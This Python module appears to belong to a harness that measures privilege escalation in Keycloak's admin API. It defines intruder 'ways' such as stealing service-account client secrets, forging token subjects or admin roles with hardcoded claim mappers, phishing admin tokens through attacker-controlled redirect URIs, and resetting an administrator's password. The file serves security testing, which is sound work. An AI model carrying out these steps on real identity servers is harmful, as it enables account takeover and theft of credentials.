"""Ways through clients, client scopes, authorization services and client registration."""

from typing import Any

from tools.measure.fixtures_clients import client_body
from tools.measure.http import Answer, json_body
from tools.measure.powers.intruder import NEW_PASSWORD, Intruder, claims_of
from tools.measure.powers.way import Ease, Fruitless, Refused, Yields, way
from tools.measure.powers.ways_users import HAS_ADMINISTRATOR, NEW
from tools.measure.stage import SECRET

POWERFUL_SECRET = "known-to-few"
HAS_SERVICE_ACCOUNT = "a service account with an administrator's role logs in with a client secret"
LURED = "an administrator follows a link"
AUTHZ = "/clients/{az-client}/authz/resource-server"


def constant_claim(name: str, value: str) -> dict[str, Any]:
    """A protocol mapper that writes a constant into access tokens."""
    config = {"claim.name": name, "claim.value": value, "jsonType.label": "String", "access.token.claim": "true", "id.token.claim": "true"}
    return {"name": f"constant-{name}", "protocol": "openid-connect", "protocolMapper": "oidc-hardcoded-claim-mapper", "config": config}


@way(
    "read-client-secret",
    Yields.BECOMES_ADMIN,
    "read the secret of a service account that is an administrator, and log in as it",
    ease=Ease.SPECIAL,
    needs=HAS_SERVICE_ACCOUNT,
)
async def _read_client_secret(who: Intruder) -> None:
    answer = await who.call("GET", "/clients/{powerful-client}/client-secret")
    await _as_powerful(who, answer.body, "value")


@way(
    "read-client",
    Yields.BECOMES_ADMIN,
    "read a client with the secret of a service account that is an administrator, and log in as it",
    ease=Ease.SPECIAL,
    needs=HAS_SERVICE_ACCOUNT,
)
async def _read_client(who: Intruder) -> None:
    answer = await who.call("GET", "/clients/{powerful-client}")
    await _as_powerful(who, answer.body, "secret")


@way(
    "read-installation",
    Yields.BECOMES_ADMIN,
    "read the installation file of a service account that is an administrator, and log in as it",
    ease=Ease.SPECIAL,
    needs=HAS_SERVICE_ACCOUNT,
)
async def _read_installation(who: Intruder) -> None:
    answer = await who.call("GET", "/clients/{powerful-client}/installation/providers/keycloak-oidc-keycloak-json")
    credentials = answer.body.get("credentials", {}) if isinstance(answer.body, dict) else {}
    await _as_powerful(who, credentials, "secret")


@way(
    "renew-client-secret",
    Yields.BECOMES_ADMIN,
    "set a new secret for a service account that is an administrator, and log in as it",
    ease=Ease.SPECIAL,
    needs="a service account holds an administrator's role",
)
async def _renew_client_secret(who: Intruder) -> None:
    answer = await who.call("POST", "/clients/{powerful-client}/client-secret", {})
    await _as_powerful(who, answer.body, "value")


@way(
    "registration-token-of-client",
    Yields.BECOMES_ADMIN,
    "get a registration access token for a service account that is an administrator, read its secret there, and log in as it",
    ease=Ease.SPECIAL,
    needs=HAS_SERVICE_ACCOUNT,
)
async def _registration_token(who: Intruder) -> None:
    answer = await who.call("POST", "/clients/{powerful-client}/registration-access-token", {})
    token = str((answer.body or {}).get("registrationAccessToken", ""))
    realm = who.stand.realm
    who.calls.append("with that token: GET /realms/{realm}/clients-registrations/default/{client}")
    read = await realm.server.call("GET", f"/realms/{realm.name}/clients-registrations/default/powerful-{who.suffix}", token=token)
    await _as_powerful(who, read.body if read.succeeded else {}, "secret")


async def _as_powerful(who: Intruder, found: Any, key: str) -> None:
    secret = found.get(key, "") if isinstance(found, dict) else ""
    if not secret:
        raise Fruitless("no secret is in the answer")
    await who.becomes_admin(await who.log_in_as_client(f"powerful-{who.suffix}", str(secret)))


@way("read-secret-of-client", Yields.ACTS_AS_OTHER, "read the secret of a client and act as its service account")
async def _read_secret_of_client(who: Intruder) -> None:
    answer = await who.call("GET", "/clients/{client}/client-secret")
    secret = str((answer.body or {}).get("value", ""))
    if not secret:
        raise Fruitless("no secret is in the answer")
    token = await who.log_in_as_client(f"client-{who.suffix}", secret)
    account = (await who.stand.realm.admin("GET", f"/clients/{await who.scope.get('client')}/service-account-user")).body["id"]
    await who.acts_as(token, account)


@way("secret-in-clients", Yields.READS_SECRETS, "read the secrets of clients")
async def _secret_in_clients(who: Intruder) -> None:
    await who.fixtures("powerful-client")
    who.found(POWERFUL_SECRET, (await who.call("GET", "/clients", query="clientId=powerful-{n}")).body)


@way("secret-in-installation", Yields.READS_SECRETS, "read the secrets of clients in their installation files")
async def _secret_in_installation(who: Intruder) -> None:
    path = "/clients/{powerful-client}/installation/providers/keycloak-oidc-keycloak-json"
    who.found(POWERFUL_SECRET, (await who.call("GET", path)).body)


@way("private-key-of-client", Yields.READS_SECRETS, "read private keys of clients")
async def _private_key(who: Intruder) -> None:
    await who.fixtures("saml-client+key")
    answer = await who.call("GET", "/clients/{saml-client}")
    key = await who.scope.get("saml-client.key")
    if not key:
        raise Fruitless("Keycloak keeps no private key of this client")
    who.found(key[:60], answer.body)


@way("secret-in-export", Yields.READS_SECRETS, "read the secrets of clients in an export of the realm")
async def _secret_in_export(who: Intruder) -> None:
    await who.fixtures("powerful-client")
    who.found(POWERFUL_SECRET, (await who.call("POST", "/partial-export", {}, query="exportClients=true")).body)


@way(
    "own-client-with-subject",
    Yields.BECOMES_ADMIN,
    "create a client whose tokens name an administrator as their subject (mapper Hardcoded claim, claim sub), and fetch a token",
    ease=Ease.USUAL,
    needs=HAS_ADMINISTRATOR,
)
async def _own_client_with_subject(who: Intruder) -> None:
    body = client_body("own-{n}") | {"fullScopeAllowed": True, "protocolMappers": [constant_claim("sub", "{administrator}")]}
    await who.call("POST", "/clients", body)
    await who.becomes_admin(await who.log_in_as_client(f"own-{who.suffix}", SECRET))


@way(
    "own-client-with-subject-of-user",
    Yields.ACTS_AS_OTHER,
    "create a client whose tokens name another user as their subject, and fetch a token",
)
async def _own_client_with_subject_of_user(who: Intruder) -> None:
    body = client_body("own-{n}") | {"fullScopeAllowed": True, "protocolMappers": [constant_claim("sub", "{user}")]}
    await who.call("POST", "/clients", body)
    await who.acts_as(await who.log_in_as_client(f"own-{who.suffix}", SECRET), await who.scope.get("user"))


@way(
    "mapper-with-subject",
    Yields.BECOMES_ADMIN,
    "add a mapper to a client so that its tokens name an administrator as their subject, and fetch a token",
    ease=Ease.SPECIAL,
    needs=f"{HAS_ADMINISTRATOR}, and the holder knows the secret of a client with full scope",
)
async def _mapper_with_subject(who: Intruder) -> None:
    await who.fixtures("full-client")
    await who.call("POST", "/clients/{full-client}/protocol-mappers/models", constant_claim("sub", "{administrator}"))
    await who.becomes_admin(await who.log_in_as_client(f"full-{who.suffix}", SECRET))


@way(
    "scope-mapper-with-subject",
    Yields.BECOMES_ADMIN,
    "add a mapper to a client scope so that tokens name an administrator as their subject, and fetch a token",
    ease=Ease.SPECIAL,
    needs=f"{HAS_ADMINISTRATOR}, and the holder knows the secret of a client with full scope and that client scope",
)
async def _scope_mapper_with_subject(who: Intruder) -> None:
    await who.fixtures("full-client")
    await who.scope.admin("PUT", "/clients/{full-client}/default-client-scopes/{client-scope}", {})
    await who.call("POST", "/client-scopes/{client-scope}/protocol-mappers/models", constant_claim("sub", "{administrator}"))
    await who.becomes_admin(await who.log_in_as_client(f"full-{who.suffix}", SECRET))


@way("own-client-with-role", Yields.BECOMES_ADMIN, "create a client whose mapper writes realm-admin into its tokens, and fetch a token")
async def _own_client_with_role(who: Intruder) -> None:
    mapper = {
        "name": "role",
        "protocol": "openid-connect",
        "protocolMapper": "oidc-hardcoded-role-mapper",
        "config": {"role": "realm-management.realm-admin"},
    }
    await who.call("POST", "/clients", client_body("own-{n}") | {"fullScopeAllowed": True, "protocolMappers": [mapper]})
    await who.becomes_admin(await who.log_in_as_client(f"own-{who.suffix}", SECRET))


@way(
    "own-client-with-claims",
    Yields.BECOMES_ADMIN,
    "create a client whose mapper writes the claim resource_access into its tokens, and fetch a token",
)
async def _own_client_with_claims(who: Intruder) -> None:
    mapper = constant_claim("resource_access.realm-management.roles", '["realm-admin"]')
    mapper["config"]["jsonType.label"] = "JSON"
    await who.call("POST", "/clients", client_body("own-{n}") | {"fullScopeAllowed": True, "protocolMappers": [mapper]})
    await who.becomes_admin(await who.log_in_as_client(f"own-{who.suffix}", SECRET))


@way(
    "lure-to-own-client",
    Yields.BECOMES_ADMIN,
    "create a client with their own redirect address and without consent, and keep the token of an administrator who follows a link to it",
    ease=Ease.LURED,
    needs=LURED,
)
async def _lure_to_own_client(who: Intruder) -> None:
    await who.fixtures("administrator")
    await who.call("POST", "/clients", _lure(who))
    await who.becomes_admin(await _lured(who, f"own-{who.suffix}"))


@way(
    "lure-to-registered-client",
    Yields.BECOMES_ADMIN,
    "register a client with their own redirect address, and keep the token of an administrator who follows a link to it",
    ease=Ease.LURED,
    needs=LURED,
)
async def _lure_to_registered_client(who: Intruder) -> None:
    await who.fixtures("administrator")
    await registered(who, _lure(who))
    await who.becomes_admin(await _lured(who, f"own-{who.suffix}"))


@way(
    "lure-to-changed-client",
    Yields.BECOMES_ADMIN,
    "add their own redirect address to a client, and keep the token of an administrator who follows a link to it",
    ease=Ease.LURED,
    needs=f"{LURED}; the client has full scope and is public or its secret is known to the holder",
)
async def _lure_to_changed_client(who: Intruder) -> None:
    await who.fixtures("administrator", "full-client")
    changed = _lure(who) | {"clientId": "full-{n}", "publicClient": False}
    await who.call("PUT", "/clients/{full-client}", changed)
    await who.becomes_admin(await _lured(who, f"full-{who.suffix}", SECRET))


def _lure(who: Intruder) -> dict[str, Any]:
    plain = {"clientId": "own-{n}", "publicClient": True, "standardFlowEnabled": True, "consentRequired": False, "fullScopeAllowed": True}
    return plain | {"redirectUris": [f"{who.sinks.provider.url}/*"]}


async def _lured(who: Intruder, client: str, secret: str = "") -> str:
    """The token that the intruder gets when an administrator logs in at the link."""
    who.calls.append("an administrator follows the link and logs in; the code arrives at the holder's address")
    async with who.browser() as browser:
        page = await browser.start(client=client, redirect=f"{who.sinks.provider.url}/cb", secret=secret)
        return await who.log_in_at(page, browser, f"administrator-{who.suffix}")


@way(
    "own-permission",
    Yields.BECOMES_ADMIN,
    "give themselves a fine-grained permission on users and set a new password for an administrator",
    ease=Ease.SPECIAL,
    needs=f"{HAS_ADMINISTRATOR}, and the realm has fine-grained admin permissions switched on",
    own_realm=True,
    since=(26, 2),
)
async def _own_permission(who: Intruder) -> None:
    realm = who.stand.realm
    await realm.admin("PUT", "", {"adminPermissionsEnabled": True})
    found = (await realm.admin("GET", "/clients", query="clientId=admin-permissions")).body
    (own,) = (await realm.admin("GET", "/clients", query=f"clientId={claims_of(who.token)['azp']}")).body
    who.scope.facts["permissions-client"] = found[0]["id"]
    server = "/clients/{permissions-client}/authz/resource-server"
    policy = await who.call("POST", f"{server}/policy/client", {"name": "own-{n}", "clients": [own["id"]]})
    body = {
        "name": "permission-{n}",
        "resourceType": "Users",
        "resources": [],
        "scopes": ["manage", "view"],
        "policies": [policy.body["id"]],
    }
    await who.call("POST", f"{server}/permission/scope", body)
    await who.call("PUT", "/users/{administrator}/reset-password", NEW)
    await who.becomes_admin(await who.log_in(f"administrator-{who.suffix}", NEW_PASSWORD))


@way("switch-enforcement-off", Yields.CHANGES, "open an application to everybody (policyEnforcementMode DISABLED)")
async def _switch_enforcement_off(who: Intruder) -> None:
    await who.fixtures("az-client")
    await who.call(
        "PUT", AUTHZ, {"policyEnforcementMode": "DISABLED", "decisionStrategy": "UNANIMOUS", "allowRemoteResourceManagement": True}
    )
    settings = (await who.scope.admin("GET", AUTHZ)).body
    if settings.get("policyEnforcementMode") != "DISABLED":
        raise Fruitless("enforcement is still on")


@way("delete-resource", Yields.DESTROYS, "delete an application's protected resources and policies")
async def _delete_resource(who: Intruder) -> None:
    await who.call("DELETE", AUTHZ + "/resource/{az-resource}")
    await who.gone(AUTHZ + "/resource/{az-resource}")


@way("read-authorization", Yields.READS, "read applications' authorization settings")
async def _read_authorization(who: Intruder) -> None:
    await who.fixtures("az-client")
    await who.call("GET", AUTHZ)


@way("delete-client", Yields.DESTROYS, "delete clients")
async def _delete_client(who: Intruder) -> None:
    await who.call("DELETE", "/clients/{client}")
    await who.gone("/clients/{client}")


@way("delete-client-scope", Yields.DESTROYS, "delete client scopes")
async def _delete_client_scope(who: Intruder) -> None:
    await who.call("DELETE", "/client-scopes/{client-scope}")
    await who.gone("/client-scopes/{client-scope}")


@way("create-client", Yields.CHANGES, "create clients, each with a new identity of its own")
async def _create_client(who: Intruder) -> None:
    await who.call("POST", "/clients", {"clientId": "own-{n}", "secret": SECRET, "serviceAccountsEnabled": True})


@way("register-client", Yields.CHANGES, "register clients, each with a new identity of its own")
async def _register_client(who: Intruder) -> None:
    answer = await registered(who, {"clientId": "own-{n}", "serviceAccountsEnabled": True})
    if not (answer.body or {}).get("clientId"):
        raise Fruitless("no client was registered")


async def registered(who: Intruder, client: dict[str, Any]) -> Answer:
    """Register a client with the holder's own token."""
    realm = who.stand.realm
    who.calls.append("POST /realms/{realm}/clients-registrations/default")
    path = f"/realms/{realm.name}/clients-registrations/default"
    answer = await realm.server.call("POST", path, token=who.token, body=json_body(await who.scope.fill(client)))
    if not answer.succeeded:
        raise Refused(step=1, status=answer.status)
    return answer


@way("create-initial-access", Yields.CHANGES, "create initial access tokens for the registration of clients")
async def _create_initial_access(who: Intruder) -> None:
    await who.call("POST", "/clients-initial-access", {"expiration": 3600, "count": 2})


@way("read-clients", Yields.READS, "read clients")
async def _read_clients(who: Intruder) -> None:
    who.found(f"client-{who.suffix}", (await who.call("GET", "/clients/{client}")).body)


@way("list-clients", Yields.READS, "read the names of clients")
async def _list_clients(who: Intruder) -> None:
    await who.fixtures("client")
    who.found(f"client-{who.suffix}", (await who.call("GET", "/clients", query="clientId=client-{n}")).body)
